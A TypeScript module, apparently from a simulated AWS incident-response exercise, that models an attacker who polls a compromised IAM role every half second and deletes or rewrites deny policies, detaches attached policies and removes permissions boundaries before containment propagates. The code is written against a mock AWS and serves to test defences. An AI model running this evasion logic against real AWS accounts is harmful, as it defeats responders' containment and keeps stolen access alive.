// The stripper: looks at the role twice a second, and takes away or rewrites whatever has come to deny it.
//
// In the wild: OFFENSAI's tool notyet, which polls its own permissions and takes a deny away inside the seconds in which IAM
// propagates: https://www.offensai.com/blog/eventual-consistency-resistant-iam-containment-aws-incident-response
// A deny that is deleted before it has propagated is never enforced; only a policy above the account resists.
import {
  DeleteRolePermissionsBoundaryCommand,
  DeleteRolePolicyCommand,
  DetachRolePolicyCommand,
  GetRoleCommand,
  GetRolePolicyCommand,
  ListAttachedRolePoliciesCommand,
  ListRolePoliciesCommand,
  PutRolePolicyCommand,
} from "@aws-sdk/client-iam";
import { changesSoFar } from "../../mock-aws/propagation.ts";
import type { Actor } from "../actor.ts";
import type { Held, Intruder } from "../intruder.ts";
import { arnOf } from "../organization.ts";
import type { Opponent } from "./opponent.ts";

const POLL_SECONDS = 0.5;
/** Looks between which nothing has changed would see the same: only one in so many is taken. */
const IDLE_POLLS = 120;
/** Whoever is refused looks less often whether that has passed. */
const REFUSED_SECONDS = 5;
/** The policy that the role had before. */
const KNOWN = "work";

export const stripper: Opponent = {
  about: "polls twice a second, and deletes or rewrites denies and boundaries",
  leaks: ["instance", "role-session"],
  editsIam: true,
  async *play(intruder, dice) {
    const rewrites = dice.chance(0.4);
    let seen = -1;
    let editor = editorOf(intruder);
    for (let poll = 0; ; poll++) {
      yield editor ? POLL_SECONDS : REFUSED_SECONDS;
      if (editor && changesSoFar() === seen && poll % IDLE_POLLS > 0) continue;
      editor = editorOf(intruder);
      if (editor) await strip(intruder, editor, rewrites);
      seen = changesSoFar();
    }
  },
};

function editorOf(intruder: Intruder): Held | undefined {
  return intruder.usable().find(({ principal }) => arnOf(principal) === arnOf(intruder.plan.leaked));
}

async function strip(intruder: Intruder, editor: Held, rewrites: boolean): Promise<void> {
  const RoleName = editor.principal.name;
  const found = await intruder.attempt(editor, `look at ${RoleName}`, (actor) => look(actor, RoleName));
  if (!found) {
    await intruder.use(editor);
    return;
  }
  const act = (what: string, call: (actor: Actor) => Promise<unknown>) => intruder.attempt(editor, what, call);
  for (const PolicyName of found.inline) {
    const put = new PutRolePolicyCommand({ RoleName, PolicyName, PolicyDocument: HARMLESS });
    const remove = new DeleteRolePolicyCommand({ RoleName, PolicyName });
    if (rewrites) await act(`rewrite ${PolicyName}`, ({ iam }) => iam.send(put));
    else await act(`delete ${PolicyName}`, ({ iam }) => iam.send(remove));
  }
  for (const PolicyArn of found.attached) {
    const detach = new DetachRolePolicyCommand({ RoleName, PolicyArn });
    await act("detach a policy", ({ iam }) => iam.send(detach));
  }
  const unbind = new DeleteRolePermissionsBoundaryCommand({ RoleName });
  if (found.bounded) await act("delete the boundary", ({ iam }) => iam.send(unbind));
}

/** Denies what was issued long ago: nothing. */
const HARMLESS = JSON.stringify({
  Version: "2012-10-17",
  Statement: [
    {
      Effect: "Deny",
      Action: "*",
      Resource: "*",
      Condition: { DateLessThan: { "aws:TokenIssueTime": "2001-01-01T00:00:00Z" } },
    },
  ],
});

type Found = { readonly inline: readonly string[]; readonly attached: readonly string[]; readonly bounded: boolean };

/** What is new on the role, but for what was rewritten already. */
async function look({ iam }: Actor, RoleName: string): Promise<Found> {
  const { PolicyNames = [] } = await iam.send(new ListRolePoliciesCommand({ RoleName }));
  const { AttachedPolicies = [] } = await iam.send(new ListAttachedRolePoliciesCommand({ RoleName }));
  const { Role } = await iam.send(new GetRoleCommand({ RoleName }));
  const inline: string[] = [];
  for (const PolicyName of PolicyNames.filter((name) => name !== KNOWN)) {
    const { PolicyDocument = "" } = await iam.send(new GetRolePolicyCommand({ RoleName, PolicyName }));
    if (decodeURIComponent(PolicyDocument) !== HARMLESS) inline.push(PolicyName);
  }
  const attached = AttachedPolicies.flatMap(({ PolicyArn }) => PolicyArn ?? []);
  return { inline, attached, bounded: Role?.PermissionsBoundary !== undefined };
}
